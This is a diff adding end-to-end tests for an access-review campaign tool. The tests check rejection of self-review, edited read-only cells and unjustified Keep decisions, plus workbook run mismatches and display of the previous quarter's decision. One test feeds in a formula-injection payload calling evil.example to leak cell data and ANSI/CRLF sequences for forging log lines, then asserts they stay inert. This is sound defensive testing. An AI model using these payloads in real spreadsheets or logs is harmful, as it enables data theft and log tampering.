@@ -156,3 +156,104 @@ describe('the review campaign, end to end on the demo organisation', () => {
     expect((await readdir(final)).sort()).toEqual(expect.arrayContaining(['findings.json', 'review-record.json', 'campaign.html']));
   }, 300_000);
 });
+
+describe('campaign read-back rejects what a reviewer must not do', () => {
+  it('rejects self-review, edited rows, unjustified Keep against Revoke, misplaced decisions; flags another reviewer; keeps hostile text inert', async () => {
+    const work = join(dir, 'reject');
+    await cp(out, work, { recursive: true });
+    const full = join(work, 'access-review.xlsx');
+    const rows = new Map(campaign.rows.map((r) => [r.reviewId, r]));
+    const revokeRec = campaign.rows.find((r) => r.recommendation === 'Revoke' && r.findings.some((f) => f.severity === 'critical' || f.severity === 'high'))!;
+    const owned = campaign.rows.find((r) => r.ownerEmail && r.recommendation === 'Keep')!;
+    const edited = campaign.rows.find((r) => r.recommendation === 'Keep' && r.reviewId !== owned.reviewId)!;
+    const other = campaign.rows.find((r) => r.recommendation === 'Keep' && r.reviewId !== owned.reviewId && r.reviewId !== edited.reviewId)!;
+    const hostile = campaign.rows.find((r) => r.recommendation === 'Revoke' && r.reviewId !== revokeRec.reviewId)!;
+    const huge = 'A'.repeat(30_000);
+    const formula = '=HYPERLINK("http://evil.example/?"&A1,"click")';
+    const control = 'ok\u001b[31mRED\u001b[0m\r\nforged line';
+    const accountFinding = campaign.rows.flatMap((r) => r.findings).find((f) => !f.suppressed)!;
+    await fillWorkbook(
+      full,
+      (v) => {
+        const r = rows.get(v.reviewId)!;
+        if (r === revokeRec) return { decision: 'Keep', reviewer: r.reviewer!, date: DAY };
+        if (r === owned) return { decision: 'Keep', reviewer: `Me <${r.ownerEmail!.toUpperCase()}>`, date: DAY };
+        if (r === edited) return { decision: 'Keep', reviewer: r.reviewer!, date: DAY, edit: { 'Owner IdP Status': 'active', 'Account Status': 'active', Admin: r.admin ? 'no' : 'yes' } };
+        if (r === other) return { decision: 'Keep', reviewer: 'someone.else@harbourline.example', date: DAY };
+        if (r === hostile) return { decision: 'Revoke', reviewer: `${formula} ${r.reviewer!}`, date: DAY, justification: `${control} ${huge}` };
+        return null;
+      },
+      (id) => (id === accountFinding.id ? { decision: 'Revoke', reviewer: 'x@harbourline.example', date: DAY, justification: 'here' } : null),
+    );
+    const res = await runCli(['plan', '--decisions', full, '--out', join(dir, 'reject-out'), '--allow-mass-removal']);
+    expect(res.code).toBe(1);
+    expect(res.stderr).not.toMatch(/\bat .+\.js:\d+/);
+    expect(res.stderr).toMatch(new RegExp(`${revokeRec.reviewId}: Keep: Keep on an account with a critical or high finding`));
+    expect(res.stderr).toMatch(new RegExp(`${owned.reviewId}: Keep: self-review`));
+    expect(res.stderr).toMatch(new RegExp(`${edited.reviewId}: Keep: read-only cells were changed: .*Admin`));
+    expect(res.stderr).toMatch(new RegExp(`${other.reviewId}: flagged: decided by someone other than the assigned reviewer`));
+    expect(res.stderr).toMatch(new RegExp(`${accountFinding.id}: Revoke: the finding's account is decided on its row of the Review sheet`));
+    // Control characters never reach the terminal; no line is forged.
+    expect(res.stderr).not.toContain('\u001b[31m');
+    expect(res.stderr.split('\n').some((l) => l.startsWith('forged line'))).toBe(false);
+
+    const record = JSON.parse(await readFile(join(dir, 'reject-out', 'review-record.json'), 'utf8')) as ReviewRecord;
+    const entry = (id: string) => record.entries.find((e) => e.reviewId === id)!;
+    expect(entry(revokeRec.reviewId)).toMatchObject({ status: 'rejected', decision: null, submitted: 'Keep' });
+    expect(entry(owned.reviewId).status).toBe('rejected');
+    expect(entry(edited.reviewId).issues.join(' ')).toMatch(/Owner IdP Status|Account Status|Admin/);
+    expect(entry(other.reviewId)).toMatchObject({ status: 'kept', decision: 'Keep' });
+    expect(entry(other.reviewId).flags.join(' ')).toMatch(/not_assigned_reviewer/);
+    const h = entry(hostile.reviewId);
+    expect(h.decision).toBe('Revoke');
+    expect(h.justification!.length).toBeLessThanOrEqual(4000);
+    expect(record.closed).toBe(false);
+    // The CSV neutralises the formula; the page escapes it; nothing is fetched.
+    const csv = await readFile(join(dir, 'reject-out', 'review-record.csv'), 'utf8');
+    expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);
+    const html = await readFile(join(dir, 'reject-out', 'campaign.html'), 'utf8');
+    expect(html).not.toContain('<script');
+    expect(html).toContain('=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1');
+    expect(html).not.toMatch(/<a |href=/i);
+  }, 120_000);
+
+  it('refuses a workbook from another run with exit 3, naming the file (not a pile of rejected rows)', async () => {
+    const otherRun = join(dir, 'other-run');
+    const r = await runCli(['run', '--demo', '--out', otherRun, '--snapshot-dir', join(dir, 'snap2'), '--quiet']);
+    expect(r.code).toBe(0);
+    const res = await runCli(['plan', '--decisions', join(otherRun, 'access-review.xlsx'), '--findings', join(out, 'findings.json'), '--out', join(dir, 'mixed')]);
+    expect(res.code).toBe(3);
+    expect(res.stderr).toMatch(/access-review\.xlsx: workbook of run [0-9a-f-]+, but findings\.json is run/);
+    expect(res.stderr).not.toMatch(/\bat .+\.js:\d+/);
+  }, 180_000);
+
+  it('shows last quarter\'s decision, reviewer and date as context with --previous, never pre-filled', async () => {
+    const prev = join(dir, 'prev');
+    await cp(out, join(prev, 'run'), { recursive: true });
+    const someone = campaign.rows[0]!;
+    await fillWorkbook(join(prev, 'run', 'access-review.xlsx'), (v) => (v.reviewId === someone.reviewId ? { decision: 'Keep', reviewer: someone.reviewer!, date: DAY } : null));
+    const p = await runCli(['plan', '--decisions', join(prev, 'run', 'access-review.xlsx'), '--out', join(prev, 'final')]);
+    expect(p.code).toBe(1);
+    const next = join(dir, 'next');
+    const r = await runCli(['run', '--demo', '--previous', join(prev, 'final'), '--out', next, '--snapshot-dir', join(dir, 'snap3'), '--quiet']);
+    expect(r.code, r.stderr).toBe(0);
+    const c = Campaign.parse(JSON.parse(await readFile(join(next, 'review-campaign.json'), 'utf8')));
+    const row = c.rows.find((x) => x.reviewId === someone.reviewId)!;
+    expect(row.previous).toEqual({ decision: 'Keep', reviewer: someone.reviewer, date: '2026-12-10' });
+    expect(c.rows.filter((x) => x.previous !== null)).toHaveLength(1);
+    const ExcelJS = (await import('exceljs')).default;
+    const wb = new ExcelJS.Workbook();
+    await wb.xlsx.readFile(join(next, 'access-review.xlsx'));
+    const ws = wb.getWorksheet('Review')!;
+    const header: string[] = [];
+    ws.getRow(1).eachCell((cell, i) => (header[i] = String(cell.value)));
+    const at = (h: string): number => header.indexOf(h);
+    for (let i = 2; i <= ws.rowCount; i++) {
+      const cells = ws.getRow(i);
+      if (String(cells.getCell(at('Review ID')).value) !== someone.reviewId) continue;
+      expect(cells.getCell(at('Previous Decision')).value).toBe('Keep');
+      expect(cells.getCell(at('Previous Reviewer')).value).toBe(someone.reviewer);
+      expect(cells.getCell(at('Decision')).value ?? null).toBeNull();
+    }
+  }, 180_000);
+});
